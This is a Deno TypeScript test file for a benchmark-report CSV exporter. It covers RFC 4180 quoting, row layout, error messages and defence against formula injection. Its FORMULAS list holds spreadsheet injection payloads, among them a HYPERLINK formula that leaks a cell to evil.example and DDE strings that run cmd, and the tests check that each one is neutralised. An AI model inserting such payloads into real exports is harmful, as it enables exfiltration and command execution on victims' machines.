import assert from "node:assert/strict";
import { csvLine, renderCsv, renderGapsCsv } from "./csv.ts";
import { BENCH, INPUTS, withoutRecordings } from "./report_test_support.ts";

const [bench, live, kernel, sweep, comparison] = INPUTS;

function rowsOf(text: string): string[][] {
  assert.ok(text.endsWith("\r\n") && !/[^\r]\n/.test(text));
  return text.trimEnd().split("\r\n").map((line) => line.split(","));
}

Deno.test("csvLine() quotes what RFC 4180 says, and writes nothing for null", () => {
  assert.equal(csvLine(["a", 1.5, null]), "a,1.5,\r\n");
  assert.equal(csvLine(['say "x"', "a,b", "c\nd"]), '"say ""x""","a,b","c\nd"\r\n');
});

Deno.test("renderCsv() has a row for each request of each run, with its raw values", () => {
  const [heading, ...rows] = rowsOf(renderCsv([bench]));
  assert.equal(rows.length, BENCH.sides.length * BENCH.requests.count);
  for (const row of rows) assert.equal(row.length, heading.length);
  const [first] = rows;
  const cell = (name: string): string => first[heading.indexOf(name)];
  assert.equal(cell("file"), "bench.json");
  assert.equal(cell("ttft_ms"), String(BENCH.sides[0].runs[0].samples!.ttftMs[0]));
  assert.equal(cell("arrival_ms"), String(BENCH.requestList!.arrivalMs[0]));
  assert.equal(cell("input_tokens"), "100");
});

Deno.test("renderCsv() joins requests of replays and live servers, failures included", () => {
  const text = renderCsv([bench, live]);
  assert.match(text, /\r\nlive\.json,endpoint,0,1,,,,,,,,,"timeout: no byte, for 5 s"\r\n/);
  assert.equal(text.match(/^file,/gm)!.length, 1);
  // What an older file does not hold is empty.
  assert.match(renderCsv([withoutRecordings()]), /\r\nold\.json,uniform,0,0,,,,\d/);
});

Deno.test("renderCsv() has a row for each sample of a kernel case and each side of a point", () => {
  assert.equal(rowsOf(renderCsv([kernel])).length, 1 + 3 + 3 + 1 + 3);
  assert.match(renderCsv([kernel]), /smoke-speculative,,,skipped: the caches take 2\.0 GB\r\n/);
  assert.match(renderCsv([sweep]), /sweep\.jsonl,0,16,,,,,headwise,8,2,10,2,0,\r\n/);
});

Deno.test("renderCsv() refuses what has other columns or no raw values", () => {
  assert.throws(
    () => renderCsv([bench, kernel]),
    /'kernel.json' as csv: .* of 'bench.json'; write/,
  );
  assert.throws(() => renderCsv([comparison]), /'gate.json' as csv: a verdict holds no raw values/);
});

Deno.test("renderGapsCsv() has every token once", () => {
  const [heading, ...rows] = rowsOf(renderGapsCsv([bench]));
  assert.deepEqual(heading, ["file", "side", "pair", "gap_ms", "tokens"]);
  const uniform = rows.filter(([, side]) => side === "uniform");
  const tokens = uniform.reduce((sum, row) => sum + Number(row[4]), 0);
  assert.equal(tokens, BENCH.sides[0].runs[0].performance!.whole.tbtMs!.count);
  assert.throws(() => renderGapsCsv([withoutRecordings()]), /'old.json' as csv-gaps: it holds no/);
  assert.throws(() => renderGapsCsv([live]), /holds no gaps/);
});

/** What a spreadsheet would run, call or open. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example?"&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\tcmd",
  "\rcmd",
  "\ncmd",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff20x",
  "-",
  "-a",
  "--1",
  "-1-1",
];

Deno.test("csvLine() writes what a spreadsheet would run as text", () => {
  for (const formula of FORMULAS) {
    const [, quoted, plain] = /^x,(?:"([^]*)"|([^",\r\n]*)),y\r\n$/.exec(
      csvLine(["x", formula, "y"]),
    )!;
    assert.equal(quoted?.replaceAll('""', '"') ?? plain, `'${formula}`);
  }
});

Deno.test("csvLine() leaves numbers as they are, written as text too", () => {
  const numbers = [-1, -0.5, 0, 1e21, -1e-7];
  assert.equal(csvLine(numbers), `${numbers.join(",")}\r\n`);
  const texts = ["-1", "-0.5", "+3", "-1e-7", "-.5", "12", "a=b", "x-y", ""];
  assert.equal(csvLine(texts), `${texts.join(",")}\r\n`);
  assert.equal(csvLine([null, -2]), ",-2\r\n");
});

Deno.test("csvLine() quotes line ends of either kind alone", () => {
  assert.equal(csvLine(["a\rb", "c\nd", 'e"f', "g,h"]), '"a\rb","c\nd","e""f","g,h"\r\n');
});
